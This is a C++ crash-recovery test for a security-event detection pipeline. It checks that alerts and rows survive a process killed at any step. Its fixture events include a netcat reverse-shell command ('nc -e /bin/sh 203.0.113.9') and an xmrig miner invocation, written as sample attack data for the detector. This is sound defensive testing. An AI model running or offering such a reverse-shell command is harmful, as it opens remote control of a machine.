// The process ends at every step between two durable effects, and again while it recovers: rows and alerts are those of
// a run that nothing interrupted.
#include <functional>

#include <gtest/gtest.h>
#include <sys/wait.h>
#include <unistd.h>

#include "hub_words.h"
#include "journal/journal.h"
#include "loop.h"
#include "sealing_sink.h"

namespace picket::pipeline {
namespace {

// An engine takes a while to make, and the thread sanitizer makes it slower. No multiple of the three steps that most
// turns have, so that each kind of step has its turn.
#if __has_feature(thread_sanitizer)
constexpr int kStride = 13;
#else
constexpr int kStride = 4;
#endif
constexpr int kMessages = 42;
constexpr int kHubEvents = kMessages / 3;
constexpr int kRecords = kMessages + kHubEvents;

journal::OpenedJournal open_journal(const std::string& folder) {
  auto opened = journal::open_embedded({.directory = folder, .segment_bytes_max = 8192, .reserve_bytes = 0});
  EXPECT_TRUE(opened.has_value());
  return *std::move(opened);
}

/// What the hub says in between: alerts and recommendations take their turns in the derived journal.
void append_hub_event(journal::Journal& journal, const Identity& device, int i) {
  const std::string body =
      i % 2 == 0 ? connect(device.device_id, {{"tls.version", i % 4 == 0 ? "TLSv1.1" : "TLSv1.3"}}, noon(i)).body
                 : auth_failed("token_expired", {}, noon(i), device.device_id).body;
  const Identity proven = i % 2 == 0 ? device : Identity{"hub", "", "", ""};
  ASSERT_TRUE(journal
                  .append({.kind = journal::RecordKind::hub_event,
                           .partition = partition_of(proven),
                           .enqueued = noon(i),
                           .identity = proven,
                           .body = as_bytes(body)},
                          {})
                  .has_value());
}

/// Attacks, duplicates, dead letters and plain events of a few devices.
void fill(const std::string& folder) {
  auto opened = open_journal(folder);
  for (int i = 0; i < kMessages; ++i) {
    const Identity identity{"hub", "device-" + std::to_string(i % 3), "", "g"};
    std::vector<TestEvent> events{process("/bin/ls", "ls " + std::to_string(i), {}, noon(i)),
                                  failed_login(noon(i), "192.0.2." + std::to_string(i % 3))};
    if (i % 10 == 3) events.push_back(process("/tmp/x", "xmrig --id " + std::to_string(i / 20), {}, noon(i)));
    if (i % 20 == 7)
      events.push_back(process("/bin/nc", "nc -e /bin/sh 203.0.113.9 " + std::to_string(i), {}, noon(i)));
    if (i == 38) events.push_back(good_login(noon(i), "192.0.2.2"));
    std::string body = i % 13 == 5 ? "{broken" : message_json(events);
    const std::string message_id = "m" + std::to_string(i % 9 == 8 ? i - 1 : i);  // some are sent again
    const journal::Property properties[] = {{"$.mid", message_id}, {"$.ifid", kSecurityInterface}};
    if (i % 3 == 0) append_hub_event(*opened.journal, identity, i);
    ASSERT_TRUE(opened.journal
                    ->append({.partition = partition_of(identity),
                              .enqueued = noon(i),
                              .identity = identity,
                              .properties = properties,
                              .body = as_bytes(body)},
                             {})
                    .has_value());
  }
  opened.journal->flush();
}

struct Outcome {
  std::vector<std::string> rows;
  std::vector<std::string> changes;  ///< Bodies of the derived journal.
};

/// In turns.
struct Pace {
  int seal = 7;
  int checkpoint = 4;
};

/// Runs the pipeline over the whole journal in small turns.
void run(const std::string& folder, const std::function<void(std::string_view)>& on_step, SealingSink& sink,
         const Pace& pace = {}) {
  auto messages = open_journal(folder + "/journal");
  auto derived = open_journal(folder + "/derived");
  const ManualClock clock(kNoon);
  auto loop = Loop::open({.checkpoint_directory = folder + "/checkpoints",
                          .installation_id = "inst",
                          .fingerprint_key = {3, 4},
                          .batch_bytes = 1,
                          .on_step = on_step},
                         *messages.journal, *derived.journal, sink, clock);
  ASSERT_TRUE(loop.has_value()) << describe(loop.error());
  for (int turn = 0; (*loop)->stats().replaying; ++turn) {
    ASSERT_LT(turn, 4 * kRecords);
    ASSERT_TRUE((*loop)->turn(Duration::milliseconds(1)).has_value());
    if (turn % pace.seal == pace.seal - 1) {
      ASSERT_TRUE(sink.seal().has_value());
      if (on_step) on_step("sealed");
    }
    if (turn % pace.checkpoint == pace.checkpoint - 1) ASSERT_TRUE((*loop)->checkpoint().has_value());
  }
}

Outcome outcome_of(const std::string& folder, const SealingSink& sink) {
  Outcome out{sink.rows(), {}};
  auto derived = open_journal(folder + "/derived");
  auto reader = derived.journal->reader({}).value();
  for (;;) {
    const auto batch = reader->read(1 << 20);
    if (!batch || batch->records.empty()) return out;
    for (const auto& record : batch->records) out.changes.emplace_back(as_text(record.body));
  }
}

/// A child that ends like kill -9 at its n-th step; true when it got that far.
bool run_and_die(const std::string& folder, int at_step, const Pace& pace = {}) {
  const pid_t child = ::fork();
  if (child == 0) {
    int steps = 0;
    SealingSink sink(folder);
    run(
        folder,
        [&](std::string_view) {
          if (++steps == at_step) ::_exit(9);
        },
        sink, pace);
    ::_exit(::testing::Test::HasFailure() ? 1 : 0);
  }
  int status = 0;
  EXPECT_EQ(::waitpid(child, &status, 0), child);
  EXPECT_TRUE(WIFEXITED(status)) << "step " << at_step;
  const int code = WIFEXITED(status) ? WEXITSTATUS(status) : 1;
  EXPECT_TRUE(code == 0 || code == 9) << "step " << at_step;
  return code == 9;
}

class Crash : public ::testing::Test {
 protected:
  void SetUp() override {
    fill(origin_.path() + "/journal");
    std::filesystem::copy(origin_.path(), reference_.path(), std::filesystem::copy_options::recursive);
    SealingSink sink(reference_.path());
    run(reference_.path(), {}, sink);
    expected_ = outcome_of(reference_.path(), sink);
    ASSERT_GT(expected_.rows.size(), 70u);
    ASSERT_GT(expected_.changes.size(), 20u);
  }
  void expect_same(const std::string& folder, int step) {
    SealingSink sink(folder);
    run(folder, {}, sink);
    const Outcome got = outcome_of(folder, sink);
    ASSERT_EQ(got.rows, expected_.rows) << "step " << step;
    ASSERT_EQ(got.changes, expected_.changes) << "step " << step;
  }

  TempFolder origin_;
  TempFolder reference_;
  Outcome expected_;
};

TEST_F(Crash, AtAnyStepLosesAndDoublesNothing) {
  int died = 0;
  for (int step = 1;; step += kStride) {
    const TempFolder folder;
    std::filesystem::copy(origin_.path(), folder.path(), std::filesystem::copy_options::recursive);
    if (!run_and_die(folder.path(), step)) break;
    ++died;
    expect_same(folder.path(), step);
    if (HasFatalFailure()) return;
  }
  EXPECT_GT(died * kStride, 150);
}

TEST_F(Crash, AgainAndAgainWhileRecoveringLosesAndDoublesNothing) {
  for (int step = 3; step < 40; step += 2 * kStride) {
    const TempFolder folder;
    std::filesystem::copy(origin_.path(), folder.path(), std::filesystem::copy_options::recursive);
    // Each life gets a little further than what it has to repeat.
    for (int life = 0; life < 40 && run_and_die(folder.path(), step + life * 5); ++life) {
    }
    expect_same(folder.path(), step);
    if (HasFatalFailure()) return;
  }
}

// One life makes rows and detects, the next find checkpoints far behind what was sealed, and die on their way too.
TEST_F(Crash, WithCheckpointsBehindTheSealedRowsLosesAndDoublesNothing) {
  for (int step = 140; step < 190; step += 4 * kStride) {
    const TempFolder folder;
    std::filesystem::copy(origin_.path(), folder.path(), std::filesystem::copy_options::recursive);
    ASSERT_TRUE(run_and_die(folder.path(), step, {.seal = 90, .checkpoint = 3}));
    for (int life = 0; life < 3; ++life)
      run_and_die(folder.path(), 2 + life * 7 + step % 20, {.seal = 50, .checkpoint = 3});
    expect_same(folder.path(), step);
    if (HasFatalFailure()) return;
  }
}

TEST_F(Crash, LostCheckpointsAreMadeAnewByReplay) {
  const TempFolder folder;
  std::filesystem::copy(origin_.path(), folder.path(), std::filesystem::copy_options::recursive);
  ASSERT_TRUE(run_and_die(folder.path(), 120));
  std::filesystem::remove_all(folder.path() + "/checkpoints");
  expect_same(folder.path(), 150);
}

TEST_F(Crash, DamagedCheckpointIsLeftOut) {
  const TempFolder folder;
  std::filesystem::copy(origin_.path(), folder.path(), std::filesystem::copy_options::recursive);
  ASSERT_TRUE(run_and_die(folder.path(), 130));
  for (const auto& entry : std::filesystem::directory_iterator(folder.path() + "/checkpoints")) {
    std::filesystem::resize_file(entry.path(), entry.file_size() / 2);
    break;
  }
  expect_same(folder.path(), 170);
}

}  // namespace
}  // namespace picket::pipeline
